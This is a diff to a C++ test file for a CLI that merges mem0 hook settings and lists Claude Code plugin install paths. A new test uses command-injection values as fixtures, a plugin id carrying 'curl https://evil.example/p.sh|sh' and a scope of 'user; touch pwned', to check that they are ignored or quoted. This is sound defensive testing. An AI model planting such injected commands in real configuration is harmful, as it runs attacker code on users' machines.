@@ -298,15 +298,21 @@ TEST_CASE("cli: only our programs count as ours", "[cli][merge]") {
 }
 
 TEST_CASE("cli: installing replaces an older installation", "[cli][merge]") {
+  // Another install of ours: its directory holds mem0-hooks too.
+  testing::TempDir old_place;
+  testing::write_file(old_place / "mem0-hooks", "");
+  const std::string dir = testing::backslashes_escaped(old_place.path().generic_string());
   const std::string old = R"({"hooks":{"UserPromptSubmit":[{"hooks":[
-      {"type":"command","command":"/old/place/on_user_prompt","timeout":30}]}],
+      {"type":"command","command":")" +
+                          dir + R"(/on_user_prompt","timeout":30}]}],
     "PreToolUse":[{"matcher":"Read","hooks":[
-      {"type":"command","command":"/old/place/on_file_read","timeout":30}]}]}})";
+      {"type":"command","command":")" +
+                          dir + R"(/on_file_read","timeout":30}]}]}})";
   const std::string out = merged(old);
   CHECK(commands_of(out, "UserPromptSubmit") ==
         std::vector<std::string>{"/opt/mem0/bin/on_user_prompt"});
   CHECK(commands_of(out, "PreToolUse") == ours("PreToolUse"));
-  CHECK(out.find("/old/place") == std::string::npos);
+  CHECK(out.find(old_place.path().generic_string()) == std::string::npos);
 }
 
 TEST_CASE("cli: merge_settings refuses what is not a settings object", "[cli][merge]") {
@@ -571,8 +577,7 @@ TEST_CASE("cli: a marketplace install is active where it applies and is enabled"
     REQUIRE(paths.size() == 2);
     CHECK(paths[0].kind == InstallPath::Kind::plugin_root);
     CHECK(describe(paths[0]) == "wired in plugin /src/mem0 checkout (CLAUDE_PLUGIN_ROOT)");
-    const std::string quoted = // as the user's shells read it (user_word)
-        platform::windows_commands() ? "\"/src/mem0 checkout\"" : "'/src/mem0 checkout'";
+    const std::string quoted = "'/src/mem0 checkout'"; // as the user's shell reads it (user_word)
     CHECK(removal(paths[0]) == "start Claude Code without --plugin-dir " + quoted);
     CHECK(times_wired(paths) == 2);
   }
@@ -610,6 +615,26 @@ TEST_CASE("cli: a plugin enabled but not installed is listed, not active", "[cli
   CHECK(describe(paths[0]) == "plugin mem0-native-hooks@team enabled in " +
                                   h.project_settings().string() + " but not installed");
   CHECK(removal(paths[0]) == "claude plugin disable mem0-native-hooks@team --scope project");
+}
+
+TEST_CASE("cli: a plugin id that is no plugin name is ignored, and what is printed is quoted",
+          "[cli][install_paths]") {
+  ClaudeHome h;
+  // A repository's settings naming a plugin whose "marketplace" is a shell command: no install
+  // path, so nothing to print and nothing to block an install.
+  const std::string evil = "mem0-native-hooks@x; curl https://evil.example/p.sh|sh; #";
+  testing::write_file(h.project_settings(), enabling(true, evil));
+  CHECK(h.paths().empty());
+  h.installed(h.user_entry(), evil);
+  CHECK(h.paths().empty());
+  // A scope read from installed_plugins.json is one quoted word of the command.
+  h.installed(R"([{"scope": "user; touch pwned", "installPath": "/cache/p"}])");
+  testing::write_file(h.user_settings(), enabling(true));
+  const auto paths = h.paths();
+  REQUIRE(paths.size() == 1);
+  const std::string scope = user_word("user; touch pwned");
+  CHECK(scope != "user; touch pwned");
+  CHECK(removal(paths[0]) == "claude plugin uninstall mem0-native-hooks@mkt --scope " + scope);
 }
 
 TEST_CASE("cli: installed_plugins.json variants and lookalikes", "[cli][install_paths]") {
